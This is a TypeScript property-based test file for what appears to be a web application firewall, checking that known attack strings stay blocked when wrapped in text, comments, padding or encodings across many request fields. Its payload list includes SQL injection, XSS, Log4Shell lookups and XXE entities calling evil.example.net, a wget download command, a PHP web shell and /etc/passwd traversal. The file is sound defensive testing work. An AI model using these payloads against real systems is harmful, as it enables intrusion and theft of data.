import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { inspect } from '../src/inspect.ts'

/** What is certain by itself, one of each mechanic. */
const ATTACKS: readonly string[] = [
  "1' UNION SELECT name,password FROM users -- ",
  "x' or '1'='1",
  '1 union select password from users',
  "'; drop table users; --",
  '1 and sleep(5)',
  "1'||(select password from users limit 1)||'",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '${jndi:ldap://evil.example.net/a}',
  '${${lower:j}ndi:ldap://evil.example.net/a}',
  '{{7*7}}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}',
  '../../../../../../etc/passwd',
  '..\\..\\..\\..\\..\\windows\\win.ini',
  '$(cat /etc/passwd)',
  ';cat /etc/passwd',
  '| wget http://evil.example.net/x -O /tmp/x',
  "<?php system($_GET['c']); ?>",
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  'http://169.254.169.254/latest/meta-data/',
  "__import__('os').system('id')",
  "require('child_process').execSync('id')",
  'Runtime.getRuntime().exec("id")',
  'O:8:"stdClass":1:{s:1:"a";i:2;}',
  '*)(uid=*))(|(uid=*',
]

const PROSE = [
  'Hello, I have a question about this.',
  'The following text was found in our logs, what does it mean?',
  'see below please',
  "It's what he said: use it or leave it.",
  'これは日本語の文章です。よろしくお願いします。',
]
const CODE = [
  'int x = 1;',
  'return x;',
  'const a = 1',
  'if (a) {',
  '}',
  'import os',
  '# a note',
  '// a note',
  'def f(x):',
  '$ ls',
]
const BASE64 = ['aGVsbG8gd29ybGQ=', 'H4sIAAAAAAAAAKtWyk4tKVayUlAqS8wpTVWqBQ', 'AAAA+qx/AAAA', 'eyJhIjoxfQ']

/** Text set before and behind a value, and nothing else changed. */
type Wrapper = readonly [before: string, behind: string]

const lines = (parts: readonly string[]): fc.Arbitrary<string> =>
  fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 4 }).map(chosen => chosen.join('\n'))

const wrapper: fc.Arbitrary<Wrapper> = fc.oneof(
  lines(PROSE).map((text): Wrapper => [`${text} `, '']),
  lines(PROSE).map((text): Wrapper => ['', `\n${text}`]),
  fc.tuple(lines(PROSE), lines(PROSE)).map(([a, b]): Wrapper => [`${a}\n\n`, `\n\n${b}`]),
  lines(CODE).map((text): Wrapper => ['', `\n${text}`]),
  lines(CODE).map((text): Wrapper => [`${text}\n`, '']),
  fc.tuple(lines(CODE), lines(CODE)).map(([a, b]): Wrapper => [`${a}\n`, `\n${b}`]),
  fc.constantFrom<Wrapper>(
    ['```\n', '\n```'],
    ['```sql\n', '\n```\n'],
    ['~~~\n', '\n~~~'],
    ['    ', ''],
    ['> ', ''],
    ['"', '"'],
    ['“', '”'],
    ['(', ')'],
    ['/* ', ' */'],
    ['<!-- note --> ', ''],
    ['// ', ''],
    ['# ', ''],
    ['{"note": "x"} ', ''],
    ['', ' {"note": "x"}'],
    ['<p>', '</p>'],
    ['<pre><code>', '</code></pre>'],
    ['<p>A note</p>\n', '\n<p>The end</p>'],
    ['&nbsp;', '&nbsp;'],
  ),
  fc.constantFrom(...BASE64).map((text): Wrapper => [`${text} `, `\n${text}`]),
  fc
    .tuple(fc.constantFrom(' ', '\n', 'A', '.', '\t'), fc.integer({ min: 1, max: 3_000 }))
    .map(([filler, times]): Wrapper => [`${filler.repeat(times)} `, `\n${filler.repeat(times)}`]),
)

const NO_BREAKS = /[\r\n]/g

const PLACES: Readonly<Record<string, (value: string) => string>> = {
  query: value =>
    inspect({ method: 'GET', target: `/s?q=${encodeURIComponent(value)}`, headers: [] }).verdict,
  path: value =>
    inspect({ method: 'GET', target: `/files/${encodeURIComponent(value)}`, headers: [] }).verdict,
  cookie: value =>
    inspect({ method: 'GET', target: '/', headers: ['cookie', `a=b; q=${encodeURIComponent(value)}`] })
      .verdict,
  header: value =>
    inspect({ method: 'GET', target: '/', headers: ['x-note', value.replace(NO_BREAKS, ' ')] }).verdict,
  form: value => post('application/x-www-form-urlencoded', `a=1&q=${encodeURIComponent(value)}`),
  'multipart field': value =>
    post(
      'multipart/form-data; boundary=XX',
      `--XX\r\nContent-Disposition: form-data; name="q"\r\n\r\n${value}\r\n--XX--\r\n`,
    ),
  'multipart header': value =>
    post(
      'multipart/form-data; boundary=XX',
      `--XX\r\nContent-Disposition: form-data; name="q"\r\nX-Note: ${value.replace(NO_BREAKS, ' ')}\r\n\r\nv\r\n--XX--\r\n`,
    ),
  'short JSON field': value =>
    value.length < 300 ? post('application/json', JSON.stringify({ a: 1, q: value })) : 'block',
  'JSON in a query': value =>
    inspect({
      method: 'GET',
      target: `/s?q=${encodeURIComponent(JSON.stringify({ q: value }))}`,
      headers: [],
    }).verdict,
  'string of a GraphQL document': value =>
    value.length < 300
      ? post(
          'application/json',
          JSON.stringify({ query: `query { user(id: ${JSON.stringify(value)}) { id } }` }),
        )
      : 'block',
}

function post(type: string, body: string): string {
  return inspect({ method: 'POST', target: '/s', headers: ['content-type', type], body: Buffer.from(body) })
    .verdict
}

describe('adding text to a value never makes a match go away', () => {
  for (const [place, verdict] of Object.entries(PLACES)) {
    test(`in a ${place}`, () => {
      // Where an attack alone is let through, there is nothing that text could take away.
      const found = ATTACKS.filter(attack => verdict(attack) !== 'pass')
      assert.ok(found.length > ATTACKS.length / 2, `only ${found.length} are found at all`)
      fc.assert(
        fc.property(fc.constantFrom(...found), wrapper, (attack, [before, behind]) => {
          assert.notEqual(verdict(`${before}${attack}${behind}`), 'pass')
        }),
        { numRuns: 1_500, seed: 20_261_126 },
      )
    })
  }

  test('inside a long comment of a long value, and torn apart by padding longer than a window', () => {
    const words = PROSE.join(' ').repeat(80)
    for (const attack of [
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.example.net/a}',
      "1' union select 1,2 -- ",
    ]) {
      const commented = `${words} /* ${words.slice(0, 80)} ${attack} ${words.slice(0, 80)} */ ${words}`
      assert.equal(post('application/x-www-form-urlencoded', `q=${encodeURIComponent(commented)}`), 'block')
    }
    const torn = `1' union${' '.repeat(20_000)}select 1,2 -- `
    assert.equal(post('application/x-www-form-urlencoded', `q=${encodeURIComponent(torn)}`), 'block')
    const split = `1' union/*${words}*/select 1,2 -- `
    assert.equal(post('application/x-www-form-urlencoded', `q=${encodeURIComponent(split)}`), 'block')
  })

  test('in the prolog of an XML document, over several lines, whatever follows', () => {
    const documents = [
      '<?xml version="1.0"?>\n<!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<root>&xxe;</root>',
      '<!DOCTYPE xxe [\n<!ELEMENT name ANY >\n<!ENTITY xxe SYSTEM "http://evil.example.net/">]>\n<a><b>&xxe;</b></a>',
      '<!DOCTYPE r SYSTEM "http://evil.example.net/x.dtd">\n<r/>',
    ]
    fc.assert(
      fc.property(fc.constantFrom(...documents), lines([...PROSE, ...CODE]), (document, text) => {
        for (const type of ['application/xml', 'text/xml', 'text/plain', '']) {
          assert.equal(post(type, document), 'block')
          assert.equal(post(type, `${document}\n<!-- ${text} -->`), 'block')
          assert.equal(post(type, document.replace(/\n/, `\n<!-- ${text} -->\n`)), 'block')
        }
      }),
      { numRuns: 200, seed: 20_261_126 },
    )
  })

  test('a long text at an unknown body parameter is let through with a finding that names the setting', () => {
    const text = `${PROSE.join('\n')}\n\`\`\`\n<script>alert(1)</script>\n\`\`\`\n${PROSE.join('\n')}`
    const { verdict, matches } = inspect(
      {
        method: 'POST',
        target: '/posts',
        headers: ['content-type', 'application/json'],
        body: Buffer.from(JSON.stringify({ text })),
      },
      { level: 1 },
    )
    assert.equal(verdict, 'pass')
    assert.match(matches[0]?.exception ?? '', /parameters: \{ 'body\.text': 'text' \}/)
  })

  test('what the documentation names as an attack only as a whole is refused alone, and not in a sentence', () => {
    for (const value of ['java.lang.Runtime', 'select * from users', "admin'--", 'dir c:\\']) {
      const verdictOf = (text: string): string =>
        inspect({ method: 'GET', target: `/s?q=${encodeURIComponent(text)}`, headers: [] }).verdict
      assert.equal(verdictOf(value), 'block', value)
      assert.equal(verdictOf(`see ${value} here`), 'pass', value)
    }
  })
})
